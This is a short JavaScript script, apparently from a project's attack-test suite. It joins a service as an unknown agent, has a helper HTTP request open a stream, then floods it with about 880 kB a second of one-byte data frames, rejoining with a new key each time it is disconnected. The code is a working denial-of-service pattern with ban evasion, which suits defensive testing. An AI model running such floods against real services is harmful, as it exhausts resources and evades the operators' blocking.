// Agents that answer with data of one byte without end: 880 kB a second, which are 98,000 frames. One that is sent away comes
// back with a new key.
import { get } from 'node:http';
import { setTimeout as pause } from 'node:timers/promises';
import { runAttack } from './attack.js';
import { frame, head, types } from './frames.js';
import { joinAsStranger } from './strange-agent.js';

const bytesPerSecond = 880_000;
const perSecond = 50;
const streamId = 1;

const piece = frame(types.data, streamId, Buffer.from('x'));
const count = Math.ceil(bytesPerSecond / perSecond / piece.length);
const burst = Buffer.concat(Array.from({ length: count }, () => piece));

/** @type {import('ws').WebSocket | undefined} */
let socket;
let isJoining = false;

await runAttack({
  perSecond,
  begin: join,
  strike: (attack) => {
    if (socket?.readyState === 1) {
      socket.send(burst);
      attack.count('burst');
    } else if (!isJoining) void join(attack);
  },
});

/** @param {import('./attack.js').Attack} attack */
async function join(attack) {
  isJoining = true;
  const joined = await joinAsStranger(attack.url, { origin: attack.origin });
  attack.count(joined.answer);
  if (joined.answer === 'welcome') {
    // An accomplice opens the stream.
    get(`${attack.url}/${joined.name}`, (response) => response.resume()).on('error', () => attack.count('lost'));
    await pause(100);
    joined.socket.send(head(streamId, 200, []));
    socket = joined.socket;
  }
  isJoining = false;
}
